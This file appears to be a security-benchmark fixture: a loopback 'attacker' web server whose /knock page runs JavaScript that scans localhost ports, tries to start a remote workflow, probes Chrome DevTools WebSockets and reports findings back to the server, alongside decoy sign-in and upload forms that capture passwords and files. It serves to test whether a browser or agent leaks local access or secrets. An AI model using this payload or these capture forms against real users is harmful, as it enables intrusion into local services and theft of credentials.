"""The attacker's site: its pages knock from inside a browser, and it keeps every request that it gets."""

import json
import threading
from collections.abc import Mapping
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Self
from urllib.parse import urlsplit

from bench.doors.knocks import PATHS

KNOCKING = """<!doctype html><meta charset="utf-8"><title>Prices</title><h1>Prices</h1><p id="state">looking</p>
<script>
const PORTS = %(ports)s, PATHS = %(paths)s;
const within = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(no, 3000, 'late'))]);
async function knock(port) {
  const base = `http://127.0.0.1:${port}`, through = [];
  for (const path of PATHS)
    try {
      const answer = await within(fetch(base + path));
      if (answer.ok) through.push([`fetch ${path}`, (await answer.text()).slice(0, 200)]);
    } catch {}
  const body = JSON.stringify({workflowType: {name: 'BrowserTask'}, taskQueue: {name: 'replaywright'}, input: []});
  const start = `${base}/api/v1/namespaces/default/workflows/knocked-by-a-page-${port}`;
  try {
    await within(fetch(start, {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body}));
  } catch {}
  for (const path of ['/', '/devtools/browser'])
    await within(new Promise((yes) => {
      const line = new WebSocket(`ws://127.0.0.1:${port}${path}`);
      line.onopen = () => { through.push([`WebSocket ${path}`, 'opened']); line.close(); yes(); };
      line.onerror = line.onclose = yes;
    })).catch(() => {});
  return [port, through];
}
Promise.all(PORTS.map(knock)).then(async (found) => {
  await fetch('/told?who=%(who)s', {method: 'POST', body: JSON.stringify(found)});
  document.getElementById('state').textContent = 'looked everywhere';
});
</script>"""

_LOGIN = """<!doctype html><meta charset="utf-8"><title>Sign in</title><h1>Sign in</h1>
<form method="post" action="/taken"><label>Password <input type="password" name="password" id="password"></label>
<button>Sign in</button></form>"""
_UPLOAD = """<!doctype html><meta charset="utf-8"><title>Upload</title><h1>Upload</h1>
<form method="post" action="/taken" enctype="multipart/form-data"><label>File <input type="file" name="file"></label>
<button>Send file</button></form>"""
_TAKEN = "<!doctype html><title>Thanks</title><h1>Thank you</h1>"


@dataclass(frozen=True)
class Request:
    """One request, as it came."""

    method: str
    target: str
    body: bytes


class Attacker:
    """An HTTP server on loopback, as a context manager. Also serves as the canary: a server that nobody may reach."""

    def __init__(self) -> None:
        self.requests: list[Request] = []
        self.ports: list[int] = []
        """Where its page knocks."""
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self.port: int = self._server.server_address[1]

    @property
    def host(self) -> str:
        """Its address with its port."""
        return f"127.0.0.1:{self.port}"

    def __enter__(self) -> Self:
        """Begin to serve."""
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        """Stop."""
        self._server.shutdown()
        self._server.server_close()

    def got(self, text: str) -> bool:
        """Tell if any request held this text."""
        return any(text.encode() in request.body or text in request.target for request in self.requests)

    def told(self, who: str) -> list[tuple[int, list[list[str]]]]:
        """The doors that its page, shown to `who`, got through: for each port, how and what was answered."""
        reports = [each.body for each in self.requests if each.target == f"/told?who={who}"]
        return [(int(port), through) for report in reports for port, through in json.loads(report)]

    def page(self, path: str, query: Mapping[str, str]) -> str:
        """The page at this path."""
        match path:
            case "/knock":
                return KNOCKING % {
                    "ports": json.dumps(self.ports),
                    "paths": json.dumps(PATHS),
                    "who": query.get("who", "")[:20],
                }
            case "/login":
                return _LOGIN
            case "/upload":
                return _UPLOAD
            case _:
                return _TAKEN

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.requests.append(Request("GET", self.path, b""))
                parts = urlsplit(self.path)
                query = dict(pair.partition("=")[::2] for pair in parts.query.split("&"))
                self._answer(site.page(parts.path, query))

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                site.requests.append(Request("POST", self.path, body))
                self._answer(_TAKEN)

            def _answer(self, text: str) -> None:
                data = text.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *_: Any) -> None:
                """Keep the terminal free: the requests are kept."""

        return Handler
